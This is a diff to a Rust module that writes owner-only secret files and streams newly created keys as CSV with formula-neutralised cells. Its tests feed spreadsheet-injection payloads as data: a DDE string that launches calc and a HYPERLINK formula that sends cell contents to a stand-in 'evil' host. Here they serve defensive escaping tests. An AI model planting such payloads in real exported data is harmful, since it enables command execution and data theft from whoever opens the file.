@@ -1,13 +1,19 @@
 //! Files that only their owner may read: keys, tokens, backups.
 
 use std::{
-    fs::{self, File, OpenOptions},
+    fs::{self, File, OpenOptions, TryLockError},
     io::{self, Write},
     os::unix::fs::{OpenOptionsExt, PermissionsExt},
     path::{Path, PathBuf},
 };
 
-use super::Failure;
+use serde_json::Value;
+
+use super::{
+    Failure,
+    asked::{note, text},
+    inert, output,
+};
 
 /// A new file of mode 0600; one that exists is left alone.
 pub(super) fn create(path: &Path, option: &str) -> Result<File, Failure> {
@@ -29,14 +35,26 @@ pub(super) struct Whole {
 }
 
 impl Whole {
-    /// Begins it, beside where it will be. `secret` for mode 0600.
+    /// Begins it, beside where it will be. `secret` for mode 0600. What a run that was killed left there is replaced; what
+    /// another run is writing is not.
     pub(super) fn begin(path: &Path, secret: bool) -> Result<Self, Failure> {
         let mut name = path.file_name().unwrap_or_default().to_owned();
-        name.push(format!(".part-{}", std::process::id()));
+        name.push(".part");
         let part = path.with_file_name(name);
+        let failed = |error: io::Error| Failure::to(&format!("make {}", part.display()), &error);
+        if fs::symlink_metadata(&part).is_ok_and(|left| left.is_file()) {
+            if let Err(TryLockError::WouldBlock) = File::open(&part).map_err(failed)?.try_lock() {
+                return Err(Failure::conflict(format!(
+                    "another command is writing {}; wait for it, or name another file",
+                    path.display()
+                )));
+            }
+            fs::remove_file(&part).map_err(failed)?;
+        }
         let mode = if secret { 0o600 } else { 0o644 };
-        let file = OpenOptions::new().write(true).create_new(true).mode(mode).open(&part);
-        let file = file.map_err(|error| Failure::to(&format!("make {}", part.display()), &error))?;
+        let file = OpenOptions::new().write(true).create_new(true).mode(mode).open(&part).map_err(failed)?;
+        // Where files cannot be locked, two runs at once are not told apart.
+        let _ = file.try_lock();
         Ok(Self { path: path.to_owned(), part, file: Some(file) })
     }
 
@@ -46,12 +64,16 @@ impl Whole {
         file.write_all(bytes).map_err(|error| Failure::to(&format!("write {path}"), &error))
     }
 
+    /// Closes it, whole and not yet under its name: one of many that appear together.
+    pub(super) fn close(&mut self) -> Result<(), Failure> {
+        let failed = |error: io::Error| Failure::to(&format!("write {}", self.path.display()), &error);
+        self.file.take().map_or(Ok(()), |file| file.sync_all().map_err(failed))
+    }
+
     /// It is whole: on the disk, and under its name.
     pub(super) fn finish(mut self) -> Result<(), Failure> {
+        self.close()?;
         let failed = |error: io::Error| Failure::to(&format!("write {}", self.path.display()), &error);
-        if let Some(file) = self.file.take() {
-            file.sync_all().map_err(failed)?;
-        }
         fs::rename(&self.part, &self.path).map_err(failed)?;
         if let Some(Ok(directory)) = self
             .path
@@ -95,7 +117,7 @@ impl Place {
     /// Into the file, or to the standard output; tells whether it was the file.
     pub(super) fn show(mut self, secret: &str) -> Result<bool, Failure> {
         match self.0.take() {
-            None => super::super::print(&format!("{}\n", super::inert::line(secret))).map(|()| false),
+            None => super::super::print(&format!("{}\n", inert::line(secret))).map(|()| false),
             Some((path, mut file)) => {
                 let written = writeln!(file, "{secret}").and_then(|()| file.sync_all());
                 written
@@ -106,23 +128,98 @@ impl Place {
     }
 }
 
-impl Place {
-    /// The same for several lines, of secrets and what they belong to.
-    pub(super) fn show_lines(mut self, lines: &str) -> Result<(), Failure> {
-        match self.0.take() {
-            None => super::super::print(&format!("{}\n", super::inert::lines(lines))),
-            Some((path, mut file)) => {
-                let written = writeln!(file, "{lines}").and_then(|()| file.sync_all());
+impl Drop for Place {
+    fn drop(&mut self) {
+        if let Some((path, _)) = &self.0 {
+            let _ = fs::remove_file(path);
+        }
+    }
+}
+
+/// The keys of new things as CSV, each written as soon as it is known: a command that is ended has told what it knew.
+pub(super) struct Keys {
+    file: Option<(PathBuf, File)>,
+    begun: bool,
+}
+
+impl Keys {
+    /// Into this new file, or to the standard output.
+    pub(super) fn reserve(file: Option<&PathBuf>) -> Result<Self, Failure> {
+        let file = file.map(|path| Ok((path.clone(), create(path, "--key-file")?))).transpose()?;
+        Ok(Self { file, begun: false })
+    }
+
+    pub(super) fn add(&mut self, things: &[Value]) -> Result<(), Failure> {
+        let mut lines = Vec::new();
+        for thing in things {
+            if lines.is_empty() && !self.begun {
+                lines.extend(record(&["id", "name", "key"])?);
+            }
+            lines.extend(record(&[text(thing, "id"), text(thing, "name"), text(thing, "key")])?);
+        }
+        if lines.is_empty() {
+            return Ok(());
+        }
+        let first = !std::mem::replace(&mut self.begun, true);
+        match &mut self.file {
+            None => {
+                if first {
+                    note("the new things' keys; they are shown once:");
+                }
+                output::print(&String::from_utf8_lossy(&lines), output::Escape::Csv)
+            }
+            Some((path, file)) => {
+                let written = file.write_all(&lines).and_then(|()| file.sync_data());
                 written.map_err(|error| Failure::to(&format!("write {}", path.display()), &error))
             }
         }
     }
 }
 
-impl Drop for Place {
+impl Drop for Keys {
     fn drop(&mut self) {
-        if let Some((path, _)) = &self.0 {
+        if let (Some((path, _)), false) = (&self.file, self.begun) {
             let _ = fs::remove_file(path);
         }
+    }
+}
+
+/// One line of CSV whose cells are inert.
+pub(super) fn record(cells: &[&str]) -> Result<Vec<u8>, Failure> {
+    let mut writer = csv::Writer::from_writer(Vec::new());
+    let failed = |error: csv::Error| Failure::to("write CSV", &error);
+    writer.write_record(cells.iter().map(|cell| inert::cell(cell).into_owned())).map_err(failed)?;
+    writer.into_inner().map_err(|error| Failure::to("write CSV", error.error()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn names_cannot_calculate_in_a_file_of_keys() {
+        let line = record(&["id", "=cmd|' /C calc'!A0", "thk_\"a"]).unwrap();
+        assert_eq!(String::from_utf8(line).unwrap(), "id,'=cmd|' /C calc'!A0,\"thk_\"\"a\"\n");
+        let directory = tempfile::tempdir().unwrap();
+        let to = directory.path().join("keys.csv");
+        let mut keys = Keys::reserve(Some(&to)).unwrap();
+        let name = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
+        keys.add(&[serde_json::json!({"id": "1", "name": name, "key": "k"})]).unwrap();
+        let written = fs::read_to_string(&to).unwrap();
+        assert_eq!(written, "id,name,key\n1,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",k\n");
+    }
+
+    #[test]
+    fn what_a_killed_run_left_is_replaced_and_what_another_writes_is_not() {
+        let directory = tempfile::tempdir().unwrap();
+        let (to, part) = (directory.path().join("k.csv"), directory.path().join("k.csv.part"));
+        fs::write(&part, "left behind").unwrap();
+        let mut whole = Whole::begin(&to, true).unwrap();
+        assert!(matches!(Whole::begin(&to, true), Err(Failure::Told { code: 6, .. })));
+        whole.write(b"whole").unwrap();
+        whole.finish().unwrap();
+        assert_eq!(fs::read_to_string(&to).unwrap(), "whole");
+        assert_eq!(fs::metadata(&to).unwrap().permissions().mode() & 0o777, 0o600);
+        assert!(!part.exists());
     }
 }
